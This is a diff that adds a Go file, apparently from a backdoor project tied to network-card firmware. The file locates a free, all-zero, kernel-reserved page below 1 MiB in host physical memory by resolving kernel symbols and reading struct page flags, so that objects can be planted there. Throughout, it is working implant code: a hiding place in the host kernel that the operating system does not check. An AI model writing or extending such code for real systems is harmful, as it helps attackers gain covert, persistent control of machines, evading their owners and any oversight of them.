@@ -1,0 +1,100 @@
+package heal
+
+import (
+	"fmt"
+
+	"github.com/backdoor-rhs/backdoor/agent/kernel"
+	"github.com/backdoor-rhs/backdoor/nicfw/hostmem"
+)
+
+// mailbox is a page of host memory that the kernel has mapped but never uses, in which objects for it can be laid.
+type mailbox struct {
+	pa hostmem.PhysAddr
+	va kernel.VirtAddr // in the direct map
+	// flags is where the page's struct page.flags is, and what it holds.
+	flagsVA kernel.VirtAddr
+	flagsPA hostmem.PhysAddr
+	flags   uint64
+}
+
+// The first MiB is reserved as a whole since v5.13 (commit f1d4d47c5851, "x86/setup: Always reserve the first 1M of RAM"),
+// but stays in the direct map. Page 0 has the BIOS's data, and from the extended BIOS data area on firmware may look at what
+// is there.
+const (
+	mailboxFirst = hostmem.PhysAddr(0x2000)
+	mailboxEnd   = hostmem.PhysAddr(0x9f000)
+	// realModeSize is left free behind real_mode_header, where the start-up code for other CPUs lies.
+	realModeSize = 32 << 10
+)
+
+// findMailbox returns the first page below 1 MiB that is RAM for the kernel, that its struct page calls reserved, that is
+// all zero, and that is not part of the real-mode trampoline.
+func findMailbox(m model) (mailbox, error) {
+	l := layout{m: m}
+	pageSize := l.sizeof("page")
+	flagsOff := l.field("page", "flags", 8)
+	if l.err != nil {
+		return mailbox{}, fmt.Errorf("find a mailbox: %w", l.err)
+	}
+	reserved, err := m.Enum("pageflags", "PG_reserved")
+	if err != nil {
+		return mailbox{}, fmt.Errorf("find a mailbox: %w", err)
+	}
+	if reserved < 0 || reserved > 63 {
+		return mailbox{}, fmt.Errorf("find a mailbox: PG_reserved is %d: %w", reserved, kernel.ErrNotSupported)
+	}
+	direct, err := symbolValue(m, "page_offset_base")
+	if err != nil {
+		return mailbox{}, fmt.Errorf("find a mailbox: %w", err)
+	}
+	vmemmap, err := symbolValue(m, "vmemmap_base")
+	if err != nil {
+		return mailbox{}, fmt.Errorf("find a mailbox: %w", err)
+	}
+	realMode, err := symbolValue(m, "real_mode_header")
+	if err != nil {
+		return mailbox{}, fmt.Errorf("find a mailbox: %w", err)
+	}
+	trampoline := hostmem.Range{Start: hostmem.PhysAddr(realMode - direct), Size: realModeSize}
+	ram := m.RAM()
+	page := make([]byte, hostmem.PageSize)
+	for pa := mailboxFirst; pa < mailboxEnd; pa += hostmem.PageSize {
+		if !inRanges(ram, pa, hostmem.PageSize) || pa+hostmem.PageSize > trampoline.Start && pa < trampoline.End() {
+			continue
+		}
+		box := mailbox{pa: pa, va: kernel.VirtAddr(direct + uint64(pa))}
+		box.flagsVA = kernel.VirtAddr(vmemmap + uint64(pa)/hostmem.PageSize*pageSize + flagsOff)
+		if box.flags, err = read64(m, box.flagsVA); err != nil || box.flags>>reserved&1 == 0 {
+			continue
+		}
+		if box.flagsPA, err = m.Phys(box.flagsVA); err != nil {
+			continue
+		}
+		if got, err := m.Phys(box.va); err != nil || got != pa {
+			continue
+		}
+		if err := m.ReadVirt(box.va, page); err != nil || !zero(page) {
+			continue
+		}
+		return box, nil
+	}
+	return mailbox{}, fmt.Errorf("no free reserved page below 1 MiB: %w", kernel.ErrNotFound)
+}
+
+func inRanges(rs []hostmem.Range, pa hostmem.PhysAddr, n uint64) bool {
+	for _, r := range rs {
+		if r.Contains(pa, n) {
+			return true
+		}
+	}
+	return false
+}
+
+func zero(b []byte) bool {
+	for _, c := range b {
+		if c != 0 {
+			return false
+		}
+	}
+	return true
+}
